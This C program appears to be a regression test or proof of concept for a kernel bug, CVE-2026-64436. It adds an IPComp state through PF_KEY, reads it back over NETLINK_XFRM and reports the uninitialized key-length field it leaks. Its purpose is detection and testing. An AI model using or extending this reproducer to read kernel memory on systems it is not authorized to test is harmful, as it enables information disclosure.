// SPDX-License-Identifier: GPL-2.0-or-later
//
// CVE-2026-64436: an IPComp state made through PF_KEY has a key length that nobody wrote. Makes one,
// reads it through NETLINK_XFRM, and says the length; freed memory is 0x6b where slub_debug=P.
#include "netlink.h"
#include <arpa/inet.h>
#include <linux/pfkeyv2.h>
#include <linux/xfrm.h>
#include <netinet/in.h>
#include <stdio.h>

struct address {
	struct sadb_address head;
	struct sockaddr_in in;
};

struct add {
	struct sadb_msg head;
	struct sadb_sa sa;
	struct sadb_x_sa2 sa2;
	struct address from, to;
};

static void fill(struct address *a, int type, int last)
{
	a->head.sadb_address_len = sizeof(*a) / 8;
	a->head.sadb_address_exttype = type;
	a->head.sadb_address_prefixlen = 32;
	a->in.sin_family = AF_INET;
	a->in.sin_addr.s_addr = htonl(0x7f000000 + last);
}

static int keys(int type)
{
	struct add m = { .head = { PF_KEY_V2, type, 0, SADB_X_SATYPE_IPCOMP, sizeof(m) / 8, 0, 1, getpid() } };
	struct sadb_msg reply[64];
	int s = socket(PF_KEY, SOCK_RAW, PF_KEY_V2);

	m.sa.sadb_sa_len = sizeof(m.sa) / 8;
	m.sa.sadb_sa_exttype = SADB_EXT_SA;
	m.sa.sadb_sa_spi = htonl(0x1234);
	m.sa.sadb_sa_state = SADB_SASTATE_MATURE;
	m.sa.sadb_sa_encrypt = SADB_X_CALG_DEFLATE;
	m.sa2.sadb_x_sa2_len = sizeof(m.sa2) / 8;
	m.sa2.sadb_x_sa2_exttype = SADB_X_EXT_SA2;
	m.sa2.sadb_x_sa2_mode = 1;
	fill(&m.from, SADB_EXT_ADDRESS_SRC, 1);
	fill(&m.to, SADB_EXT_ADDRESS_DST, 2);
	if (s < 0 || send(s, &m, sizeof(m), 0) < 0 || recv(s, reply, sizeof(reply), 0) < 0)
		return -1;
	close(s);
	return reply[0].sadb_msg_errno;
}

int main(void)
{
	struct xfrm_usersa_id id = { .spi = htonl(0x1234), .family = AF_INET, .proto = IPPROTO_COMP };
	int s = netlink(NETLINK_XFRM), error = keys(SADB_ADD);
	struct nlmsghdr *reply;
	struct nlattr *a;
	unsigned int length;

	if (error) {
		printf("no state: %s\n", strerror(error));
		return 2;
	}
	id.daddr.a4 = htonl(0x7f000002);
	begin(XFRM_MSG_GETSA, 0, &id, sizeof(id));
	reply = ask(s);
	a = reply && reply->nlmsg_type == XFRM_MSG_NEWSA ?
		find(reply, sizeof(struct xfrm_usersa_info), XFRMA_ALG_COMP) : NULL;
	length = a ? ((struct xfrm_algo *)(a + 1))->alg_key_len : 0;
	keys(SADB_DELETE);
	if (!a)
		return 2;
	printf("alg_key_len is %#x\n", length);
	return length != 0;
}
